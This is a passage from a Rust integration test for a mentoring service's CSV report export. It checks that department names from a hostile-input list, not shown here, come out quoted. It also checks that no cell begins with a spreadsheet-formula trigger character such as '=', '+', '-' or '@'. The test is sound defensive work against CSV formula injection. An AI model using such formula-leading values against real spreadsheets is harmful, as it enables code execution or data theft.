    for (d, dept) in hostile.iter().enumerate() {
        for role in ["M", "E"] {
            for n in 0..5 {
                let id = format!("D{d}{role}{n}");
                rows.push(
                    json!({"external_id": id, "given_name": id, "family_name": "X",
                                 "email": format!("{}@chu.example", id.to_lowercase()),
                                 "department": dept}),
                );
            }
        }
    }
    let imported = app
        .post_json(
            "/api/v1/people/import",
            Some(&app.as_hris()),
            &Value::Array(rows),
        )
        .await
        .json();
    assert_eq!(imported["created"], hostile.len() * 10, "{imported}");
    let program = app.create_program("Rapport CSV").await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let listed = app
        .get("/api/v1/people?limit=200", Some(&app.as_coordinator()))
        .await
        .json();
    let ids: HashMap<String, String> = listed["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["external_id"].as_str().unwrap().to_owned(),
                p["id"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    for d in 0..hostile.len() {
        for n in 0..5 {
            let mentor = app
                .enroll(&program, &ids[&format!("D{d}M{n}")], "mentor")
                .await;
            let mentee = app
                .enroll(&program, &ids[&format!("D{d}E{n}")], "mentee")
                .await;
            let reply = app
                .post_json(
                    &format!("/api/v1/programs/{program}/pairs"),
                    Some(&app.as_coordinator()),
                    &json!({"mentor_enrollment_id": mentor["id"],
                            "mentee_enrollment_id": mentee["id"]}),
                )
                .await;
            assert_eq!(reply.status, 201, "{}", reply.text);
        }
    }
    // R13: a report shows closed months only.
    crate::r13::all_happened_on(&app, crate::r13::last_month(5)).await;
    let path = format!("/api/v1/programs/{program}/report?group_by=department");
    let report = app.get(&path, Some(&app.as_analyst())).await.json();
    let csv = app
        .send(
            app.client
                .get(app.url(&path))
                .bearer_auth(app.as_analyst())
                .header("accept", "text/csv"),
        )
        .await;
    assert_eq!(csv.status, 200, "{}", csv.text);
    // Read as a spreadsheet would: RFC 4180, and no bare CR or LF outside quotes.
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(csv.text.as_bytes());
    let width = reader.headers().unwrap().len();
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(
        records.len(),
        report["groups"].as_array().unwrap().len() + 1,
        "{:?}",
        csv.text
    );
    for record in &records {
        assert_eq!(record.len(), width, "{record:?}");
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    let groups: Vec<&str> = records.iter().map(|r| &r[0]).collect();
    for dept in hostile {
        let written = if dept.starts_with(['=', '+', '-', '@']) {
            format!("'{dept}")
        } else {
            dept.to_owned()
        };
        assert!(
            groups.contains(&written.as_str()),
            "{written:?} not in {groups:?}"
        );
        assert_eq!(group(&report, dept)["suppressed"], false, "{report}");
    }
    // Outside quoted cells, lines end with CR LF only.
    let mut quoted = false;
    let bytes = csv.text.as_bytes();
    for (i, b) in bytes.iter().enumerate() {
        match b {
            b'"' => quoted = !quoted,
            b'\r' if !quoted => assert_eq!(bytes.get(i + 1), Some(&b'\n'), "a bare CR at {i}"),
            b'\n' if !quoted => assert_eq!(bytes[i - 1], b'\r', "a bare LF at {i}"),
            _ => {}
        }
    }
}
